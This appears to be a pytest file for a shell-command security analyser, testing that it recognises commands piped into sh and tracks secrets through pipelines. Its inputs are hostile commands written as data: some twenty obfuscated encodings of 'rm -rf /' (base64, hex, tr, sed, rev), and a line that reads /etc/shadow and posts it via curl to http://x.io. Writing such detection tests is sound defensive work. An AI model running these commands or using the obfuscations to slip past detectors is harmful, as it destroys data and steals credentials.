"""Programs that pass text on or change it: their output is known where their input is."""

from __future__ import annotations

import pytest

from ...code.conftest import Rules


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("echo rm -rf /", id="echo"),
        pytest.param("echo -e 'rm\\x20-rf /'", id="echo -e"),
        pytest.param("printf '%s %s %s' rm -rf /", id="printf"),
        pytest.param("printf '%b' '\\162m -rf /'", id="printf %b"),
        pytest.param("printf '%s ' rm -rf /", id="printf over all words"),
        pytest.param("echo 'rm -rf /' | cat", id="cat"),
        pytest.param("echo 'rm -rf /' > a; cat a", id="cat of a file"),
        pytest.param("echo 'rm -rf /' | tee a", id="tee"),
        pytest.param("echo 'rm -rf /' | head -1", id="head"),
        pytest.param("echo 'RM -RF /' | tr A-Z a-z", id="tr"),
        pytest.param("echo 'RM -RF /' | tr '[:upper:]' '[:lower:]'", id="tr classes"),
        pytest.param("echo 'rXm -rXf /' | tr -d X", id="tr -d"),
        pytest.param("echo 'rX -rf /' | sed 's/X/m/'", id="sed"),
        pytest.param("echo 'r_m -r_f /' | sed 's/_//g'", id="sed g"),
        pytest.param("echo '/ fr- mr' | rev", id="rev"),
        pytest.param("echo 'xxrm -rf /' | cut -c3-", id="cut"),
        pytest.param("echo cm0gLXJmIC8= | base64 -d", id="base64"),
        pytest.param("echo cm0gLXJmIC8= | openssl base64 -d", id="openssl"),
        pytest.param("echo OJWSALLSMYQC6=== | base32 -d", id="base32"),
        pytest.param("echo 726d202d7266202f | xxd -r -p", id="xxd"),
    ],
)
def test_what_is_printed_is_known(source: str, rules: Rules) -> None:
    assert "047" in rules(f"{{ {source}; }} | sh", "bash")


def test_a_secret_keeps_its_label_through_filters(rules: Rules) -> None:
    filters = "grep a | sort | uniq | sed 's/a/b/' | awk '{print $1}' | cut -d: -f1 | gzip | base64 | tr a b | head -2"
    assert "060" in rules(f"cat /etc/shadow | {filters} | curl -d @- http://x.io", "bash")
